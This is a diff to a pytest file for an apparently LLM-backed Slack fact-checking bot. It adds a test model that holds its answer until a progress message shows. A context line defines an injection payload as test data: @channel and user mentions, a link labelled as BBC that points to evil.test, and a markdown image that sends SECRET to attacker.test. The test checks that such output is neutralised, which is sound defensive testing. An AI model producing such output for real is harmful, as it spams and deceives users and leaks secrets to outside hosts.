@@ -8,6 +8,7 @@ import asyncio
 import html
 import json
 import re
+import time
 
 import httpx
 import pytest
@@ -202,11 +203,32 @@ class InjectingModel(FactcheckModel):
 LLM_PAYLOAD = "<!channel> <@U123> <https://evil.test|https://bbc.co.uk> ![x](https://attacker.test/p.png?q=SECRET)"
 
 
+class ProgressGatedModel(InjectingModel):
+    """Answers the analysis request only once the thread shows the claims-found progress line.
+
+    Progress is paced (a state shows once it has stood for a while), so with a quick model the report
+    may rightly replace it unseen; holding the answer makes "progress before the report" a fact of the
+    test, not of the machine's load."""
+
+    def __init__(self, *, claims: int, slack_api: SlackApiServer) -> None:
+        super().__init__(claims=claims)
+        self.slack_api = slack_api
+
+    def __call__(self, request: SeenRequest) -> Reply:
+        if request.schema_name != "FoundClaims":  # round 2: the claims are found and shown by now
+            deadline = time.monotonic() + 15
+            while time.monotonic() < deadline and not any(
+                "key claims" in u.get("text", "") for u in updates(self.slack_api)
+            ):
+                time.sleep(0.02)  # the server answers each request on its own thread
+        return super().__call__(request)
+
+
 async def test_llm_report_progress_and_output_safety(bot_settings, slack_api, article_server):
     """With a model: progress shows each claim's analysis, the report carries context,
     counter-evidence, questions, summary and token footer, and model text comes out dead."""
     url = article_server.add("/story", news_article())
-    with OpenAIServer(responder=InjectingModel(claims=4), latency_s=0.15) as llm:
+    with OpenAIServer(responder=ProgressGatedModel(claims=4, slack_api=slack_api), latency_s=0.15) as llm:
         configured = bot_settings.replace(openai_base_url=llm.base_url, openai_api_key="test", model="test-model")
         [event] = await post_links(configured, None, f"<{url}>")
         assert len(llm.requests) >= 2
